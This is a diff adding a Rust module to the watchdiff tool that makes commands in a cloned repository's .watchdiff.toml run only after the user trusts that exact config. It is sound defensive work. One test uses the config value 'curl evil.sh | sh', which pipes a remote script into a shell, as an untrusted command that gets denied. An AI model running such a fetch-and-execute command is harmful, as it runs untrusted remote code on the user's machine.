@@ -0,0 +1,274 @@
+//! Workspace trust for project config files
+//!
+//! A `.watchdiff.toml` in a freshly cloned repository could make watchdiff
+//! run arbitrary commands. Commands from a project config are only honored
+//! once the user has trusted that exact file for that directory: the first
+//! run lists the commands and asks, and the answer is remembered in the
+//! user-level trust file keyed by canonical path and config hash. Editing
+//! the config asks again. Until trusted, only the command-running settings
+//! are dropped; display options still apply.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::{self, BufRead, Write};
+use std::path::{Path, PathBuf};
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use crate::config::{user_config_dir, WatchDiffConfig, PROJECT_CONFIG_FILE};
+
+/// A project config file found in the watch root
+#[derive(Debug, Clone)]
+pub struct ProjectConfig {
+    pub path: PathBuf,
+    pub config: WatchDiffConfig,
+    /// The keys set in the file, to merge over the user config
+    pub table: toml::Table,
+    /// SHA-256 of the file's bytes
+    pub hash: String,
+}
+
+impl ProjectConfig {
+    /// `.watchdiff.toml` in `root`, if there is one
+    pub fn load(root: &Path) -> Result<Option<Self>> {
+        let path = root.join(PROJECT_CONFIG_FILE);
+        let text = match fs::read_to_string(&path) {
+            Ok(text) => text,
+            Err(err) if err.kind() == io::ErrorKind::NotFound => return Ok(None),
+            Err(err) => return Err(err).with_context(|| format!("Failed to read {}", path.display())),
+        };
+        let table: toml::Table = toml::from_str(&text)
+            .map_err(|e| anyhow::anyhow!("Invalid {}: {}", path.display(), e))?;
+        let config = WatchDiffConfig::from_table(table.clone())
+            .map_err(|e| anyhow::anyhow!("Invalid {}: {}", path.display(), e))?;
+        Ok(Some(Self {
+            path,
+            config,
+            table,
+            hash: format!("{:x}", Sha256::digest(text.as_bytes())),
+        }))
+    }
+}
+
+/// Every command `config` would execute. A new command-running setting must
+/// be listed here, cleared in [`without_commands`] and removed in
+/// [`remove_commands`].
+pub fn commands(config: &WatchDiffConfig) -> Vec<String> {
+    config.exec.command.iter().cloned().collect()
+}
+
+/// `config` with every command-running setting cleared
+pub fn without_commands(mut config: WatchDiffConfig) -> WatchDiffConfig {
+    config.exec.command = None;
+    config
+}
+
+/// `table`, a parsed config file, without its command-running settings
+pub fn remove_commands(table: &mut toml::Table) {
+    if let Some(toml::Value::Table(exec)) = table.get_mut("exec") {
+        exec.remove("command");
+    }
+}
+
+/// The user's answer for a directory
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum TrustDecision {
+    Trusted,
+    Denied,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+struct TrustEntry {
+    config_hash: String,
+    decision: TrustDecision,
+}
+
+/// Remembered decisions, kept in the user-level `trust.toml`
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct TrustStore {
+    #[serde(default)]
+    directories: BTreeMap<String, TrustEntry>,
+}
+
+impl TrustStore {
+    /// `$XDG_CONFIG_HOME/watchdiff/trust.toml`, falling back to `~/.config`
+    pub fn default_path() -> Option<PathBuf> {
+        Some(user_config_dir()?.join("trust.toml"))
+    }
+
+    /// Decisions saved at `path`; none if the file does not exist yet
+    pub fn load(path: &Path) -> Result<Self> {
+        match fs::read_to_string(path) {
+            Ok(text) => toml::from_str(&text).with_context(|| format!("Invalid trust file: {}", path.display())),
+            Err(err) if err.kind() == io::ErrorKind::NotFound => Ok(Self::default()),
+            Err(err) => Err(err).with_context(|| format!("Failed to read trust file: {}", path.display())),
+        }
+    }
+
+    pub fn save(&self, path: &Path) -> Result<()> {
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)
+                .with_context(|| format!("Failed to create {}", parent.display()))?;
+        }
+        fs::write(path, toml::to_string(self)?)
+            .with_context(|| format!("Failed to write trust file: {}", path.display()))
+    }
+
+    /// Decision for `root` with a config hashing to `hash`; `None` if the
+    /// user was never asked or the config changed since
+    pub fn decision(&self, root: &Path, hash: &str) -> Option<TrustDecision> {
+        self.directories
+            .get(&directory_key(root))
+            .filter(|entry| entry.config_hash == hash)
+            .map(|entry| entry.decision)
+    }
+
+    pub fn record(&mut self, root: &Path, hash: &str, decision: TrustDecision) {
+        self.directories.insert(
+            directory_key(root),
+            TrustEntry { config_hash: hash.to_string(), decision },
+        );
+    }
+}
+
+fn directory_key(root: &Path) -> String {
+    root.canonicalize().unwrap_or_else(|_| root.to_path_buf()).display().to_string()
+}
+
+/// Outcome of checking a project config against the trust store
+#[derive(Debug, Clone)]
+pub struct TrustResolution {
+    /// The project config, without its commands unless trusted
+    pub config: WatchDiffConfig,
+    /// Commands that were dropped because the directory is not trusted
+    pub ignored_commands: Vec<String>,
+    /// Whether the user answered a prompt, so the store should be saved
+    pub asked: bool,
+}
+
+/// Apply the trust decision for `project` in `root`.
+///
+/// `ask` is called when the config defines commands and no decision is on
+/// record for this exact config. It returns `None` when nobody can answer,
+/// e.g. without a terminal; the commands then stay off and nothing is
+/// remembered.
+pub fn resolve(
+    project: ProjectConfig,
+    root: &Path,
+    store: &mut TrustStore,
+    ask: impl FnOnce(&ProjectConfig, &[String]) -> Option<TrustDecision>,
+) -> TrustResolution {
+    let commands = commands(&project.config);
+    if commands.is_empty() {
+        return TrustResolution { config: project.config, ignored_commands: Vec::new(), asked: false };
+    }
+
+    let (decision, asked) = match store.decision(root, &project.hash) {
+        Some(decision) => (Some(decision), false),
+        None => match ask(&project, &commands) {
+            Some(decision) => {
+                store.record(root, &project.hash, decision);
+                (Some(decision), true)
+            }
+            None => (None, false),
+        },
+    };
+
+    if decision == Some(TrustDecision::Trusted) {
+        TrustResolution { config: project.config, ignored_commands: Vec::new(), asked }
+    } else {
+        TrustResolution { config: without_commands(project.config), ignored_commands: commands, asked }
+    }
+}
+
+/// Show the commands `project` wants to run on `output` and read a yes/no
+/// answer from `input`. Anything but yes denies.
+pub fn prompt(
+    project: &ProjectConfig,
+    commands: &[String],
+    input: &mut impl BufRead,
+    output: &mut impl Write,
+) -> io::Result<TrustDecision> {
+    writeln!(output, "{} wants to run these commands:", project.path.display())?;
+    for command in commands {
+        writeln!(output, "  {}", command)?;
+    }
+    write!(output, "Trust this directory and allow them? [y/N] ")?;
+    output.flush()?;
+
+    let mut answer = String::new();
+    input.read_line(&mut answer)?;
+    Ok(match answer.trim().to_lowercase().as_str() {
+        "y" | "yes" => TrustDecision::Trusted,
+        _ => TrustDecision::Denied,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn write_config(dir: &Path, text: &str) -> ProjectConfig {
+        fs::write(dir.join(PROJECT_CONFIG_FILE), text).unwrap();
+        ProjectConfig::load(dir).unwrap().unwrap()
+    }
+
+    #[test]
+    fn test_changed_config_prompts_again() {
+        let dir = TempDir::new().unwrap();
+        let store_path = dir.path().join("user").join("trust.toml");
+        let mut store = TrustStore::load(&store_path).unwrap();
+
+        let project = write_config(dir.path(), "[exec]\ncommand = \"make test\"\n");
+        let resolution = resolve(project, dir.path(), &mut store, |_, commands| {
+            assert_eq!(commands, ["make test"]);
+            Some(TrustDecision::Trusted)
+        });
+        assert!(resolution.asked);
+        assert_eq!(resolution.config.exec.command.as_deref(), Some("make test"));
+        store.save(&store_path).unwrap();
+
+        // Remembered across runs for the same config
+        let mut store = TrustStore::load(&store_path).unwrap();
+        let project = write_config(dir.path(), "[exec]\ncommand = \"make test\"\n");
+        let resolution = resolve(project, dir.path(), &mut store, |_, _| panic!("asked twice"));
+        assert!(!resolution.asked);
+        assert_eq!(resolution.config.exec.command.as_deref(), Some("make test"));
+
+        // An edited config is not covered by the earlier answer
+        let project = write_config(dir.path(), "[exec]\ncommand = \"curl evil.sh | sh\"\n");
+        let resolution = resolve(project, dir.path(), &mut store, |_, _| Some(TrustDecision::Denied));
+        assert!(resolution.asked);
+        assert_eq!(resolution.config.exec.command, None);
+        assert_eq!(resolution.ignored_commands, ["curl evil.sh | sh"]);
+
+        let mut input = io::Cursor::new("yes\n");
+        let mut output = Vec::new();
+        let project = ProjectConfig::load(dir.path()).unwrap().unwrap();
+        assert_eq!(prompt(&project, &["make".to_string()], &mut input, &mut output).unwrap(), TrustDecision::Trusted);
+        assert!(String::from_utf8(output).unwrap().contains("  make\n"));
+        assert_eq!(prompt(&project, &[], &mut io::Cursor::new(""), &mut Vec::new()).unwrap(), TrustDecision::Denied);
+    }
+
+    #[test]
+    fn test_untrusted_config_keeps_display_options() {
+        let dir = TempDir::new().unwrap();
+        let mut store = TrustStore::default();
+        let project = write_config(dir.path(), "[ui]\ntab_width = 8\n\n[exec]\ncommand = \"make\"\nrestart = true\n");
+
+        // Nobody to ask: commands off, nothing remembered
+        let resolution = resolve(project, dir.path(), &mut store, |_, _| None);
+        assert_eq!(resolution.config.ui.tab_width, 8);
+        assert!(resolution.config.exec.restart);
+        assert_eq!(resolution.config.exec.command, None);
+        assert!(!resolution.asked);
+        assert_eq!(store.decision(dir.path(), &ProjectConfig::load(dir.path()).unwrap().unwrap().hash), None);
+
+        // A config without commands needs no trust
+        let project = write_config(dir.path(), "[ui]\ntab_width = 2\n");
+        let resolution = resolve(project, dir.path(), &mut store, |_, _| panic!("nothing to trust"));
+        assert_eq!(resolution.config.ui.tab_width, 2);
+    }
+}